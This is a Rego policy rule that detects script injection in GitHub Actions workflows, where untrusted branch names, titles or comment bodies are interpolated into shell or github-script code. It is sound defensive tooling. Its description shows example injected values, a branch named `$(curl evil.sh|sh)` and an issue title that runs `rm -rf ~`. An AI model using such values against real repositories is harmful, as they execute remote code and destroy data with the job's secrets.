# METADATA
# title: Scripts do not contain untrusted text
# description: >-
#   `${{ … }}` is replaced before the shell reads the script. A branch named `$(curl evil.sh|sh)` or an issue titled `";
#   rm -rf ~ #` then becomes code, which runs with the token and the secrets of the job.
# related_resources:
#   - ref: https://docs.github.com/en/actions/concepts/security/script-injections
#   - ref: https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   severity: error
#   target: file
#   product_only: true
#   files:
#     - .github/workflows/*.yml
#     - .github/workflows/*.yaml
#     - "**/action.yml"
#     - "**/action.yaml"
#   help: >-
#     Pass the value through `env:` and read the quoted variable in the script: `env: {TITLE: "${{ … }}"}`, then
#     `"$TITLE"`
package purlin.rules.workflow.no_script_injection

import data.purlin.lib.paths
import data.purlin.lib.shape
import data.purlin.lib.workflow

report contains {
	"msg": message(first.context, source),
	"at": {
		"path": input.file.path,
		"index": object.get(input.file, "index", 0),
		"pointer": script.at,
		"find": first.context.text,
		"occurrence": first.context.occurrence,
	},
	"related": [{"at": source.at, "msg": sprintf("`%s` is put in here", [source.name])} | source.at],
	"key": [script.job_id, name],
	"help": help(script, first.context, source),
} if {
	paths.product(input.file.path)
	some script in scripts
	flowing := [{"context": context, "source": source} |
		some context in workflow.flowing(script.text)
		source := sources(script, context)[0]
	]
	some name in {flow.context.name | some flow in flowing}

	# A script may hold one context several times: that is one mistake.
	first := [flow | some flow in flowing; flow.context.name == name][0]
	source := first.source
}

scripts contains {
	"at": array.concat(entry.at, ["run"]),
	"job_id": entry.job_id,
	"text": entry.step.run,
	"kind": "shell",
	"environments": environments(entry),
} if {
	some entry in workflow.steps
	contains(shape.text(entry.step.run), "${{")
}

# The script of actions/github-script is JavaScript that is replaced in the same way.
scripts contains {
	"at": array.concat(entry.at, ["with", "script"]),
	"job_id": entry.job_id,
	"text": text,
	"kind": "javascript",
	"environments": environments(entry),
} if {
	some entry in workflow.steps
	lower(workflow.action(entry.step.uses)) == "actions/github-script"
	text := shape.text(entry.step["with"].script)
	contains(text, "${{")
}

# The mappings that give a step its variables, the nearest first.
environments(entry) := [
	{"at": array.concat(entry.at, ["env"]), "env": object.get(entry.step, "env", {})},
	{"at": ["jobs", entry.job_id, "env"], "env": object.get(entry.job, "env", {})},
	{"at": ["env"], "env": object.get(input.document, "env", {})},
]

# Where a text that anybody can set comes from: itself, all that `toJSON` writes out of it, or the
# environment that it reads.
sources(_, context) := [{"name": context.name, "whole": false}] if untrusted(context.path)

sources(_, context) := [{"name": context.name, "whole": true}] if {
	not untrusted(context.path)
	context.serialized
	some pattern in untrusted_paths
	workflow.holds(context.path, pattern)
}

sources(script, context) := [source |
	context.path[0] == "env"
	[_, at, text] := variables(script, context.path[1])[0]
	some inner in workflow.flowing(text)
	untrusted(inner.path)
	source := {"name": inner.name, "whole": false, "at": {
		"path": input.file.path,
		"index": object.get(input.file, "index", 0),
		"pointer": at,
	}}
] if context.path[0] == "env"

# The places that give a variable its value: the step's, the job's, the workflow's, in this order. Names ignore case.
variables(script, name) := [[key, array.concat(environment.at, [key]), text] |
	some environment in script.environments
	some key, text in shape.mapping(environment.env)
	lower(key) == name
]

untrusted(path) if {
	some pattern in untrusted_paths
	count(path) == count(pattern)
	workflow.within(path, pattern)
}

# What GitHub's Security Lab lists, and the fields of a workflow_run that carry the same texts.
untrusted_paths := {split(path, ".") |
	some path in {
		"github.head_ref",
		"github.event.issue.title",
		"github.event.issue.body",
		"github.event.pull_request.title",
		"github.event.pull_request.body",
		"github.event.pull_request.head.ref",
		"github.event.pull_request.head.label",
		"github.event.pull_request.head.repo.default_branch",
		"github.event.discussion.title",
		"github.event.discussion.body",
		"github.event.comment.body",
		"github.event.review.body",
		"github.event.review_comment.body",
		"github.event.pages.*.page_name",
		"github.event.commits.*.message",
		"github.event.commits.*.author.email",
		"github.event.commits.*.author.name",
		"github.event.head_commit.message",
		"github.event.head_commit.author.email",
		"github.event.head_commit.author.name",
		"github.event.workflow_run.head_branch",
		"github.event.workflow_run.display_title",
		"github.event.workflow_run.head_commit.message",
		"github.event.workflow_run.head_commit.author.email",
		"github.event.workflow_run.head_commit.author.name",
		"github.event.workflow_run.pull_requests.*.head.ref",
	}
}

message(context, source) := sprintf("the script contains `%s`, which anybody can set", [context.name]) if {
	not source.whole
	not source.at
}

message(context, source) := sprintf("the script contains all of `%s`, with texts that anybody can set", [context.name]) if source.whole

message(context, source) := sprintf("the script contains `%s`, which holds `%s`, which anybody can set", [context.name, source.name]) if source.at

help(script, context, source) := sprintf("Use %s in the script: the variable is set already", [variable]) if {
	source.at
	variable := reference(script, upper(context.path[1]))
}

help(script, context, source) := sprintf("Set `env: {%s: \"${{ %s }}\"}` on the step, and use %s in the script", [name, value, reference(script, name)]) if {
	not source.at
	name := variable(context)
	value := written(context, source)
}

written(context, source) := context.text if not source.whole

written(context, source) := sprintf("toJSON(%s)", [context.text]) if source.whole

# How a script reads a variable of its environment.
reference(script, name) := sprintf("\"$%s\"", [name]) if script.kind == "shell"

reference(script, name) := sprintf("process.env.%s", [name]) if script.kind == "javascript"

# `HEAD_REF` of `github.head_ref`: the last word, with the one before it.
variable(context) := upper(concat("_", array.slice(words, count(words) - 2, count(words)))) if {
	words := [word | some word in regex.find_n(`[a-z]+`, context.name, -1)]
}
